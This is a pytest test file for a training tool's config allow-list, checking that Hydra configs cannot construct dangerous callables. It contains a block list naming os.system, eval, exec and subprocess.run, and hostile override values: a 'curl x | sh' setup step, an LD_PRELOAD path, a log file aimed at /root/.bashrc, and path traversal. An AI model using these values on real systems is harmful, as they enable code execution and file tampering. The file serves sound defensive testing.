"""No config, from the command line or a file, makes trainlab or Hydra construct anything outside the allow-list.

The attacks are real: a folder with a hubconf.py that writes a marker file when imported, reached through
torch.hub.load from a loss, a Hydra callback and a logging handler, in single runs and sweeps.
"""
import os
import pickle
import re
import subprocess
import sys
import textwrap

import pytest
import yaml
from hydra import compose, initialize_config_dir
from hydra._internal.utils import _locate, create_config_search_path
from omegaconf import OmegaConf

from conftest import QUICK, ROOT, run_cli, run_forked
from test_bad_input import assert_one_clear_line
from trainlab.config.allowlist import ALLOW_KEYS_ENV, ALLOW_TARGETS_ENV, CheckedConfigLoader, UnsafeConfig, check_config, \
    target_allowed

TINY = ["data=shapes", "data.num_train=64", "data.num_test=32", "trainer.epochs=1", *QUICK]

# Callables under torch and torchvision that load, compile or run code, write files or call what they are given.
DANGEROUS = [
    "torch.hub.load", "torch.hub.load_state_dict_from_url", "torch.hub.download_url_to_file", "torch.hub._load_local",
    "torch.utils.cpp_extension.load_inline", "torch.utils.cpp_extension.load", "torch.ops.load_library",
    "torch.classes.load_library", "torch.jit.load", "torch.jit.CompilationUnit", "torch.package.PackageImporter",
    "torch.package.PackageExporter", "torch.load", "torch.save", "torch.serialization.load", "torch.export.load",
    "torch.utils.model_zoo.load_url", "torch.utils.collect_env.run", "torch.utils.benchmark.Timer",
    "torch.distributed.run.main", "torch.multiprocessing.spawn", "torch.compile", "torch.set_default_device",
    "torch.nn.functional.relu", "torch.nn.Module.load_state_dict", "torch.nn.Module.register_forward_hook",
    "torch.nn.modules.module.register_module_forward_hook", "torch.nn.utils.parametrize.register_parametrization",
    "torch.nn.Parameter", "torch.optim.Optimizer.load_state_dict", "torch.optim.lr_scheduler.LambdaLR",
    "torch.optim.lr_scheduler.MultiplicativeLR",
    "torch.optim.lr_scheduler.partial",  # functools.partial, imported into that module
    "torch.optim.swa_utils", "torchvision.transforms.Lambda", "torchvision.transforms.functional.to_tensor",
    "torchvision.models.get_model", "torchvision.models.get_model_builder", "torchvision.models.get_weight",
    "torchvision.datasets.utils.download_url", "torchvision.datasets.utils.extract_archive",
    "torchvision.io.write_file", "torchvision.io.write_jpeg", "torchvision.io.read_file",
    "torchvision.utils.save_image", "trainlab.runs.checkpoint.save_checkpoint", "trainlab.training.recipe.run",
    "os.system", "builtins.eval", "builtins.exec", "subprocess.run", "importlib.import_module",
]
ALLOWED = [
    "torch.optim.SGD", "torch.optim.AdamW", "torch.optim.lr_scheduler.OneCycleLR",
    "torch.optim.lr_scheduler.ReduceLROnPlateau", "torch.nn.CrossEntropyLoss", "torch.nn.Conv2d",
    "torchvision.models.resnet18", "torchvision.transforms.RandomCrop", "trainlab.training.losses.SoftmaxMSELoss",
    "trainlab.cli.SweepReport", "optuna.samplers.TPESampler",
]


@pytest.mark.parametrize("target", DANGEROUS)
def test_dangerous_callables_under_torch_and_torchvision_are_refused(target):
    assert _locate(target) is not None  # each one exists: the list tests the allow-list, not typos
    assert not target_allowed(target)


@pytest.mark.parametrize("target", ALLOWED)
def test_optimizers_schedulers_modules_classifiers_transforms_and_our_own_classes_are_allowed(target):
    assert target_allowed(target)


@pytest.mark.parametrize("target", ["torch..nn.Linear", " torch.nn.Linear", "torch.nn.Linear()", "torch.nn._Loss",
                                    "torch.nn.NoSuchThing", "torch", 123, None, ["torch.nn.Linear"]])
def test_malformed_or_unknown_names_are_refused(target):
    assert not target_allowed(target)


def test_a_target_hidden_behind_an_interpolation_or_a_resolver_is_found():
    for config in ({"x": "torch.hub.load", "loss": {"_target_": "${x}"}},
                   {"loss": "${oc.create:'{_target_: torch.hub.load}'}"},
                   {"loss": {"nested": [{"_target_": "torch.nn.Linear"}, {"_target_": "os.system"}]}},
                   {"loss": {"_target_": "${oc.env:TRAINLAB_NO_SUCH_VARIABLE_HERE}"}},
                   {"loss": "${oc.decode:'{_target_: os.system}'}"}):
        with pytest.raises(UnsafeConfig, match="loss.* (is not allowed|cannot be resolved)"):
            check_config(OmegaConf.create(config))
    loop = OmegaConf.create({"a": {"b": "${a}", "_target_": "torch.nn.Linear"}})  # points back at its parent
    with pytest.raises(UnsafeConfig, match="a.b cannot be resolved .*Interpolation to parent node"):
        check_config(loop)


def test_the_users_own_trust_is_named_in_the_environment_only(monkeypatch):
    assert not target_allowed("mypkg.MyNet")
    monkeypatch.setenv(ALLOW_TARGETS_ENV, "mypkg.MyNet, other.models.*")
    assert target_allowed("mypkg.MyNet") and target_allowed("other.models.Wide") and not target_allowed("mypkg.Evil")


def compose_all(*overrides):
    """The real conf/ with Hydra's own part, as Hydra composes it before a run."""
    with initialize_config_dir(str(ROOT / "conf"), version_base="1.3"):
        return compose("config", overrides=list(overrides), return_hydra_config=True)


@pytest.mark.parametrize("overrides", [
    [], ["loss=mse"], ["loss=l1"], ["optimizer=adamw", "scheduler=onecycle"], ["experiment=shapes_quick"],
    ["hparams_search=tudui_optuna"], ["hydra/launcher=parallel"], ["hydra/launcher=submitit_local"],
    ["hydra/launcher=slurm", "hydra.launcher.partition=gpu"],
    ["hparams_search=tudui_optuna", "hydra/launcher=parallel"],
])
def test_every_shipped_config_passes_with_hydras_part(overrides):
    check_config(compose_all(*overrides))


def test_a_slurm_job_whose_task_fails_has_srun_end_its_other_tasks(tmp_path):
    """The shipped setup line reaches the job's script before srun: srun then ends every task when one fails (its
    --kill-on-bad-exit), instead of leaving them blocked in a collective until its timeout."""
    from submitit.slurm.slurm import _make_sbatch_string

    launcher = compose_all("hydra/launcher=slurm", "hydra.launcher.partition=gpu").hydra.launcher
    script = _make_sbatch_string(command="python -u -m submitit.core._submit x", folder=str(tmp_path),
                                 setup=list(launcher.setup), nodes=2, ntasks_per_node=8)
    assert script.index("export SLURM_KILL_BAD_EXIT=1\n") < script.index("srun ")


@pytest.mark.parametrize("overrides,message", [
    (["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], "hydra.job.env_set.LD_PRELOAD is set by this config"),
    (["+hydra.job.env_set.PYTHONPATH=/tmp"], "TRAINLAB_ALLOW_KEYS=hydra.job.env_set.PYTHONPATH"),
    (["hydra/launcher=slurm", "hydra.launcher.partition=gpu", "hydra.launcher.setup=[curl x | sh]"],
     "hydra.launcher.setup.0 is set by this config"),
    (["hydra/launcher=slurm", "hydra.launcher.partition=gpu", "+hydra.launcher.additional_parameters.export=ALL"],
     "hydra.launcher.additional_parameters.export is set by this config"),
    (["hparams_search=tudui_optuna", "hydra.sweeper.storage=redis://host:6379"],
     "hydra.sweeper.storage=redis://host:6379 cannot be used"),
    (["hydra.job_logging.handlers.file.filename=/root/.bashrc"],
     "hydra.job_logging.handlers.file.filename is set by this config"),
    (["hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../../x.log"],
     "hydra.job_logging.handlers.file.filename is set by this config"),
    (["hydra.job.name=../../x"], "hydra.job.name is set by this config"),
    (["hydra.job_logging.handlers.console.stream=ext://torch.hub.load"],
     "hydra.job_logging.handlers.console.stream is set by this config"),
    (["+hydra.hydra_logging.handlers.x.class=torch.hub.load"], "hydra.hydra_logging.handlers.x.class is set"),
    (["+hydra.hydra_logging.formatters.simple.class=torch.hub.Formatter"],
     "hydra.hydra_logging.formatters.simple.class is set"),
])
def test_keys_that_reach_a_shell_the_environment_a_file_or_pickle_are_refused(overrides, message):
    with pytest.raises(UnsafeConfig, match=re.escape(message)):
        check_config(compose_all(*overrides))


def test_a_refused_key_can_be_trusted_from_the_environment(monkeypatch):
    cfg = compose_all("+hydra.job.env_set.LD_LIBRARY_PATH=/opt/lib")
    monkeypatch.setenv(ALLOW_KEYS_ENV, "hydra.job.env_set.LD_LIBRARY_PATH")
    check_config(cfg)


# --- real attacks through src/run.py: the marker file never appears ---

@pytest.fixture
def hub(tmp_path):
    """A folder torch.hub.load would import: its hubconf.py writes `marker` when imported."""
    folder = tmp_path / "hub"
    folder.mkdir()
    marker = tmp_path / "ran"
    (folder / "hubconf.py").write_text(textwrap.dedent(f"""\
        import pathlib
        pathlib.Path({str(marker)!r}).write_text("hubconf.py ran")
        def x(*args, **kwargs):
            import torch
            return torch.nn.CrossEntropyLoss()
        """))
    return folder, marker


def hub_keys(prefix, folder):
    return [f"+{prefix}.repo_or_dir={folder}", f"+{prefix}.model=x", f"+{prefix}.source=local"]


def yaml_attack(tmp_path, group, node, package_global=True):
    """A shared config file in a search path, conf/<group>/evil.yaml, holding `node`; -> the arguments that use it."""
    (tmp_path / "conf" / group).mkdir(parents=True)
    header = "# @package _global_\n" if package_global else ""
    (tmp_path / "conf" / group / "evil.yaml").write_text(header + yaml.safe_dump(node))
    return [f"{group}=evil", f"hydra.searchpath=[file://{tmp_path / 'conf'}]"]


def attacks(tmp_path, folder):
    """{name: (command-line args, the start of the error line)}: the three ways, from the command line and from a
    YAML file in a search path. A loss is held to the allow-list of targets; Hydra's own keys are not a user's."""
    load = {"repo_or_dir": str(folder), "model": "x", "source": "local"}
    in_logging = {"handlers": {"x": {"()": "torch.hub.load", **load}}}
    hydra_key = "is set by this config (torch.hub.load)"
    return {
        "loss, command line": (["loss._target_=torch.hub.load", *hub_keys("loss", folder)],
                               "loss._target_ 'torch.hub.load' is not allowed"),
        "loss, file": (yaml_attack(tmp_path / "a", "loss", {"_target_": "torch.hub.load", **load}, False),
                       "loss._target_ 'torch.hub.load' is not allowed"),
        "callback, command line": (["+hydra.callbacks.x._target_=torch.hub.load",
                                    *hub_keys("hydra.callbacks.x", folder)], f"hydra.callbacks.x._target_ {hydra_key}"),
        "callback, file": (yaml_attack(tmp_path / "b", "experiment", {"hydra": {"callbacks": {"x": {
            "_target_": "torch.hub.load", **load}}}}), "hydra.callbacks.x._target_ " + hydra_key),
        "logging handler, command line": (["+hydra.job_logging.handlers.x.class=torch.hub.load",
                                           *hub_keys("hydra.job_logging.handlers.x", folder)],
                                          "hydra.job_logging.handlers.x.class " + hydra_key),
        "logging handler, file": (yaml_attack(tmp_path / "c", "experiment", {"hydra": {"job_logging": in_logging}}),
                                  "hydra.job_logging.handlers.x.() " + hydra_key),
    }


ATTACKS = ["loss, command line", "loss, file", "callback, command line", "callback, file",
           "logging handler, command line", "logging handler, file"]


@pytest.mark.slow
@pytest.mark.parametrize("attack,mode", [(attack, "run") for attack in ATTACKS] + [("callback, file", "sweep")])
def test_each_way_to_torch_hub_load_runs_nothing_and_exits_2_with_one_line(tmp_path, hub, attack, mode):
    folder, marker = hub
    args, error = attacks(tmp_path, folder)[attack]
    out = tmp_path / "out"
    out.mkdir()
    (out / "kept.txt").write_text("written before")
    where = [f"hydra.run.dir={out}"] if mode == "run" else ["-m", f"hydra.sweep.dir={out}"]
    result = run_forked(*where, *TINY, *args)
    assert_one_clear_line(result, error, "TRAINLAB_ALLOW_TARGETS" if error.startswith("loss") else "TRAINLAB_ALLOW_KEYS")
    assert not marker.exists()
    assert sorted(p.name for p in out.iterdir()) == ["kept.txt"]  # nothing written, nothing lost


@pytest.mark.slow
def test_a_sweep_whose_jobs_would_call_torch_hub_load_is_refused_before_any_job_runs(tmp_path, hub):
    folder, marker = hub
    params = dict(a.split("=", 1) for a in ["loss._target_=torch.hub.load", *hub_keys("loss", folder)])
    args = yaml_attack(tmp_path, "experiment", {"hydra": {"sweeper": {"params": params}}})
    result = run_forked("-m", f"hydra.sweep.dir={tmp_path / 'sweep'}", *TINY, "optimizer=sgd,adam", *args)
    assert_one_clear_line(result, "loss._target_ 'torch.hub.load' is not allowed")
    assert not marker.exists() and not list((tmp_path / "sweep").glob("*/checkpoints"))


@pytest.mark.slow
def test_an_optuna_trial_composed_in_a_parallel_worker_is_refused_there(tmp_path, hub):
    """Optuna's sweeper leaves each trial's config to the launcher: the joblib launcher composes it in its worker."""
    folder, marker = hub
    params = {"loss._target_": "choice(torch.hub.load)", **{k: v for k, v in (a.split("=", 1) for a in hub_keys(
        "loss", folder))}}
    args = yaml_attack(tmp_path, "experiment", {"hydra": {"sweeper": {"params": params}}})
    result = run_cli("-m", "hparams_search=tudui_optuna", "hydra.sweeper.n_trials=2", "hydra/launcher=parallel",
                     f"hydra.sweep.dir={tmp_path / 'sweep'}", *TINY, *args)
    assert_one_clear_line(result, "loss._target_ 'torch.hub.load' is not allowed")
    assert "Launching jobs" in result.stdout and not marker.exists()  # refused in the job, not before


def test_the_loader_a_launcher_carries_to_a_jobs_process_checks_there_too(tmp_path, hub):
    """The joblib and submitit launchers pickle Hydra's config loader and compose each job's config in the job's own
    process: the loader that arrives there must be the checking one."""
    folder, marker = hub
    loader = CheckedConfigLoader(config_search_path=create_config_search_path(str(ROOT / "conf")))
    (tmp_path / "loader.pkl").write_bytes(pickle.dumps(loader))
    overrides = ["data=shapes", "loss._target_=torch.hub.load", *hub_keys("loss", folder)]
    job = textwrap.dedent(f"""\
        import pickle, sys
        from hydra.core.utils import setup_globals
        from hydra.types import RunMode
        sys.path.insert(0, {str(ROOT / 'src')!r})
        setup_globals()  # as the joblib and submitit launchers do in a job's process
        loader = pickle.load(open({str(tmp_path / 'loader.pkl')!r}, "rb"))
        loader.load_configuration("config", {overrides!r}, RunMode.RUN)
        print("composed without a check")
        """)
    env = {k: v for k, v in os.environ.items() if k != "HYDRA_FULL_ERROR"}
    result = subprocess.run([sys.executable, "-c", job], capture_output=True, text=True, env=env, timeout=120)
    assert_one_clear_line(result, "loss._target_ 'torch.hub.load' is not allowed")
    assert not marker.exists()


@pytest.mark.slow
def test_a_users_own_loss_class_trains_once_named_in_trainlab_allow_targets(tmp_path):
    (tmp_path / "mylosses.py").write_text("import torch\n\nclass Smooth(torch.nn.CrossEntropyLoss):\n    pass\n")
    args = [*TINY, "loss._target_=mylosses.Smooth", f"hydra.run.dir={tmp_path / 'run'}"]
    path = {"PYTHONPATH": os.pathsep.join([str(tmp_path), os.environ.get("PYTHONPATH", "")])}
    assert_one_clear_line(run_cli(*args, env=path), "loss._target_ 'mylosses.Smooth' is not allowed")
    result = run_cli(*args, env={**path, ALLOW_TARGETS_ENV: "mylosses.Smooth"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert (tmp_path / "run" / "checkpoints" / "best.pt").exists()
